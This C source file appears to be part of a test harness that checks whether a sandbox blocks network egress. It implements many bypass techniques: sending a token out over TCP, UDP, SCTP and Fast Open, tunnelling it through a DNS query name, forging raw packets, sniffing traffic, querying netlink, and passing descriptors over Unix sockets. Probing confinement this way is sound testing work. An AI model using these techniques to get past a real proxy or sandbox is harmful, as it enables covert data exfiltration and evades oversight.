// Sockets: every way to reach somebody outside without asking the proxy.
#include "attack.h"
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <linux/inet_diag.h>
#include <linux/sock_diag.h>
#include <sys/socket.h>
#include <sys/un.h>

static struct sockaddr_in v4(char **a) { // address, port
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons(atoi(a[1]))};
	inet_pton(AF_INET, a[0], &s.sin_addr);
	return s;
}
static void talk(int s, const char *token) {
	TRY(write(s, token, strlen(token)));
	show(s);
}
static void stream(char **a, int proto) { // address, port, token
	struct sockaddr_in s = v4(a);
	int fd = TRY(socket(AF_INET, SOCK_STREAM, proto));
	TRY(connect(fd, (void *)&s, sizeof s));
	talk(fd, a[2]);
}
static void tcp(char **a) { stream(a, 0); }
static void mptcp(char **a) { stream(a, 262); }
static void sctp(char **a) { stream(a, IPPROTO_SCTP); }
static void tcp6(char **a) {
	struct sockaddr_in6 s = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(a[1]))};
	inet_pton(AF_INET6, a[0], &s.sin6_addr);
	int fd = TRY(socket(AF_INET6, SOCK_STREAM, 0));
	TRY(connect(fd, (void *)&s, sizeof s));
	talk(fd, a[2]);
}
static void fastopen(char **a) { // data with the first packet, no connect
	struct sockaddr_in s = v4(a);
	int fd = TRY(socket(AF_INET, SOCK_STREAM, 0));
	TRY(sendto(fd, a[2], strlen(a[2]), MSG_FASTOPEN, (void *)&s, sizeof s));
	show(fd);
}
static void udp(char **a) {
	struct sockaddr_in s = v4(a);
	int fd = TRY(socket(AF_INET, SOCK_DGRAM, 0));
	TRY(sendto(fd, a[2], strlen(a[2]), 0, (void *)&s, sizeof s));
}
static void udp6(char **a) {
	struct sockaddr_in6 s = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(a[1]))};
	inet_pton(AF_INET6, a[0], &s.sin6_addr);
	int fd = TRY(socket(AF_INET6, SOCK_DGRAM, 0));
	TRY(sendto(fd, a[2], strlen(a[2]), 0, (void *)&s, sizeof s));
}
static void udp_connected(char **a) {
	struct sockaddr_in s = v4(a);
	int fd = TRY(socket(AF_INET, SOCK_DGRAM, 0));
	TRY(connect(fd, (void *)&s, sizeof s));
	TRY(write(fd, a[2], strlen(a[2])));
}
static void sendmmsg_(char **a) {
	struct sockaddr_in s = v4(a);
	struct iovec v = {a[2], strlen(a[2])};
	struct mmsghdr m = {.msg_hdr = {.msg_name = &s, .msg_namelen = sizeof s, .msg_iov = &v, .msg_iovlen = 1}};
	int fd = TRY(socket(AF_INET, SOCK_DGRAM, 0));
	TRY(sendmmsg(fd, &m, 1, 0));
}
static void disconnect(char **a) { // AF_UNSPEC lets a connected socket choose again
	struct sockaddr_in s = v4(a);
	struct sockaddr u = {.sa_family = AF_UNSPEC};
	int fd = TRY(socket(AF_INET, SOCK_DGRAM, 0));
	TRY(connect(fd, &u, sizeof u));
	TRY(connect(fd, (void *)&s, sizeof s));
	TRY(send(fd, a[2], strlen(a[2]), 0));
}
// dns puts the token into the name that a query asks for.
static void dns(char **a) {
	unsigned char q[512] = {0x13, 0x37, 1, 0, 0, 1};
	size_t n = 12, l = strlen(a[2]);
	struct sockaddr_in s = v4(a);
	q[n++] = l;
	memcpy(q + n, a[2], l);
	n += l;
	memcpy(q + n, "\7example\0\0\1\0\1", 13);
	n += 13;
	int fd = TRY(socket(AF_INET, SOCK_DGRAM, 0));
	TRY(sendto(fd, q, n, 0, (void *)&s, sizeof s));
}
static uint16_t sum(void *p, size_t n) {
	uint32_t t = 0;
	for (uint16_t *w = p; n > 1; n -= 2) t += *w++;
	while (t >> 16) t = (t & 0xffff) + (t >> 16);
	return ~t;
}
// raw writes the UDP packet by itself.
static size_t packet(char **a, unsigned char *b) {
	size_t l = strlen(a[2]);
	struct iphdr *ip = (void *)b;
	struct udphdr *u = (void *)(b + 20);
	*ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 9, .protocol = IPPROTO_UDP, .tot_len = htons(28 + l)};
	ip->saddr = inet_addr("127.0.0.1");
	ip->daddr = inet_addr(a[0]);
	ip->check = sum(ip, 20);
	u->source = htons(5353);
	u->dest = htons(atoi(a[1]));
	u->len = htons(8 + l);
	memcpy(b + 28, a[2], l);
	return 28 + l;
}
static void raw(char **a) {
	unsigned char b[512] = {0};
	struct sockaddr_in s = v4(a);
	size_t n = packet(a, b);
	int fd = TRY(socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
	TRY(sendto(fd, b, n, 0, (void *)&s, sizeof s));
}
static void sniff(char **a) { // listen to everybody else's packets
	char b[4096];
	int fd = TRY(socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL)));
	ready();
	alarm(20);
	for (;;) {
		ssize_t n = TRY(read(fd, b, sizeof b));
		if (n > 28 && b[9] == IPPROTO_UDP) {
			fwrite(b + 28, 1, n - 28, stdout);
			fflush(stdout);
			if (memmem(b, n, a[0], strlen(a[0]))) exit(0); // others talk, too
		}
	}
}
// netlink lists the interfaces of the machine.
static void netlink(char **a) {
	(void)a;
	struct { struct nlmsghdr h; struct rtgenmsg g; } r = {
		{NLMSG_LENGTH(sizeof(struct rtgenmsg)), RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP, 1, 0}, {AF_PACKET}};
	int fd = TRY(socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE));
	TRY(send(fd, &r, sizeof r, 0));
	static char buf[65536];
	for (;;) {
		ssize_t n = TRY(recv(fd, buf, sizeof buf, 0));
		for (struct nlmsghdr *h = (void *)buf; NLMSG_OK(h, n); h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_DONE) exit(0);
			struct ifinfomsg *i = NLMSG_DATA(h);
			int l = IFLA_PAYLOAD(h);
			for (struct rtattr *t = IFLA_RTA(i); RTA_OK(t, l); t = RTA_NEXT(t, l))
				if (t->rta_type == IFLA_IFNAME) printf("interface %s\n", (char *)RTA_DATA(t));
		}
	}
}
static void uevents(char **a) { // what the kernel tells about devices
	(void)a;
	struct sockaddr_nl s = {.nl_family = AF_NETLINK, .nl_groups = 1};
	int fd = TRY(socket(AF_NETLINK, SOCK_DGRAM, 15 /* KOBJECT_UEVENT */));
	TRY(bind(fd, (void *)&s, sizeof s));
	won("UEVENTS-OPEN");
}
static void sockets(char **a) { // who listens on this machine: port
	struct { struct nlmsghdr h; struct inet_diag_req_v2 d; } r = {
		{sizeof r, SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP, 1, 0},
		{.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_TCP, .idiag_states = 1 << 10 /* LISTEN */}};
	int fd = TRY(socket(AF_NETLINK, SOCK_DGRAM, NETLINK_SOCK_DIAG));
	TRY(send(fd, &r, sizeof r, 0));
	static char buf[65536];
	for (;;) {
		ssize_t n = TRY(recv(fd, buf, sizeof buf, 0));
		for (struct nlmsghdr *h = (void *)buf; NLMSG_OK(h, n); h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_DONE) exit(0);
			if (h->nlmsg_type == NLMSG_ERROR) refused("sock_diag");
			struct inet_diag_msg *m = NLMSG_DATA(h);
			if (ntohs(m->id.idiag_sport) == atoi(a[0])) won("SOCKET-SEEN");
		}
	}
}
static void firewall(char **a) { // the machine's packet filter
	(void)a;
	TRY(socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER));
	won("FIREWALL-OPEN");
}
static void xdp(char **a) { // packets before any filter
	(void)a;
	TRY(socket(44 /* AF_XDP */, SOCK_RAW, 0));
	won("XDP-OPEN");
}
static void vsock(char **a) { // a door to the hypervisor
	(void)a;
	TRY(socket(40 /* AF_VSOCK */, SOCK_STREAM, 0));
	won("VSOCK-OPEN");
}
static socklen_t un(struct sockaddr_un *s, const char *path) { // a leading @ is the abstract namespace
	size_t n = strlen(path);
	s->sun_family = AF_UNIX;
	memcpy(s->sun_path, path, n);
	if (path[0] == '@') s->sun_path[0] = 0;
	return offsetof(struct sockaddr_un, sun_path) + n + (path[0] != '@');
}
static int dial(const char *path, int type) {
	struct sockaddr_un s = {0};
	socklen_t n = un(&s, path);
	int fd = TRY(socket(AF_UNIX, type, 0));
	TRY(connect(fd, (void *)&s, n));
	return fd;
}
static void unixstream(char **a) { talk(dial(a[0], SOCK_STREAM), a[1]); }
static void seqpacket(char **a) {
	int fd = dial(a[0], SOCK_SEQPACKET);
	TRY(send(fd, a[1], strlen(a[1]), 0));
}
static void unixdescriptor(char **a) { // named by a descriptor that needs no right
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", (int)TRY(open(a[0], O_PATH)));
	talk(dial(p, SOCK_STREAM), a[1]);
}
static void unixrelative(char **a) {
	char *name = strrchr(a[0], '/');
	*name = 0;
	TRY(chdir(a[0]));
	talk(dial(name + 1, SOCK_STREAM), a[1]);
}
static void again(char **a) { // one end of a pair, connected to somebody else
	struct sockaddr_un s = {0};
	socklen_t n = un(&s, a[0]);
	int sv[2];
	TRY(socketpair(AF_UNIX, SOCK_DGRAM, 0, sv));
	TRY(connect(sv[0], (void *)&s, n));
	TRY(write(sv[0], a[1], strlen(a[1])));
}
static void unixdgram(char **a) { // sendto, which never connects
	struct sockaddr_un s = {0};
	socklen_t n = un(&s, a[0]);
	int fd = TRY(socket(AF_UNIX, SOCK_DGRAM, 0));
	TRY(sendto(fd, a[1], strlen(a[1]), 0, (void *)&s, n));
}
static void unixmsg(char **a) { // sendmsg keeps the address in memory
	struct sockaddr_un s = {0};
	struct iovec v = {a[1], strlen(a[1])};
	struct msghdr m = {.msg_name = &s, .msg_iov = &v, .msg_iovlen = 1};
	m.msg_namelen = un(&s, a[0]);
	int sv[2]; // from one end of a pair, where sockets are not for the asking
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (fd < 0) {
		TRY(socketpair(AF_UNIX, SOCK_DGRAM, 0, sv));
		fd = sv[0];
	}
	TRY(sendmsg(fd, &m, 0));
}
static void take(int s) { // a descriptor that somebody hands in
	char buf[256] = "", ctl[64];
	struct iovec v = {buf, sizeof buf};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
	TRY(recvmsg(s, &m, 0));
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	if (!c) {
		errno = ENOMSG;
		refused("no descriptor came");
	}
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof fd);
	TRY(pread(fd, buf, sizeof buf - 1, 0));
	won(buf);
}
static void recvfd(char **a) { take(dial(a[0], SOCK_STREAM)); }
static void handed(char **a) { // wait inside for an accomplice who comes in
	struct sockaddr_un s = {0};
	socklen_t n = un(&s, a[0]);
	int l = TRY(socket(AF_UNIX, SOCK_STREAM, 0));
	TRY(bind(l, (void *)&s, n));
	TRY(chmod(a[0], 0777));
	TRY(listen(l, 1));
	ready();
	alarm(4);
	take(TRY(accept(l, NULL, NULL)));
}
static void served(int bound) { // be reachable from outside
	struct sockaddr_in s = {.sin_family = AF_INET}, got;
	socklen_t n = sizeof got;
	int l = TRY(socket(AF_INET, SOCK_STREAM, 0));
	if (bound) TRY(bind(l, (void *)&s, sizeof s));
	TRY(listen(l, 1));
	TRY(getsockname(l, (void *)&got, &n));
	printf("port %d\n", ntohs(got.sin_port));
	ready();
	alarm(4);
	int c = TRY(accept(l, NULL, NULL));
	show(c);
}
static void serve(char **a) { (void)a, served(1); }
static void unbound(char **a) { (void)a, served(0); } // the kernel picks the port when it listens
static const struct technique all[] = {
	{"tcp", tcp}, {"tcp6", tcp6}, {"mptcp", mptcp}, {"sctp", sctp}, {"fastopen", fastopen}, {"udp", udp},
	{"udp-connected", udp_connected}, {"disconnect", disconnect}, {"sendmmsg", sendmmsg_}, {"dns", dns},
	{"raw", raw}, {"sniff", sniff}, {"netlink", netlink}, {"uevents", uevents}, {"vsock", vsock},
	{"unix", unixstream}, {"unix-dgram", unixdgram}, {"unix-msg", unixmsg}, {"recvfd", recvfd},
	{"handed", handed}, {"serve", serve}, {"unbound", unbound}, {"udp6", udp6}, {"sockets", sockets},
	{"firewall", firewall}, {"xdp", xdp}, {"seqpacket", seqpacket}, {"unix-descriptor", unixdescriptor},
	{"unix-relative", unixrelative}, {"unix-again", again}, {0},
};
int main(int argc, char **argv) { return pick(all, argc, argv); }
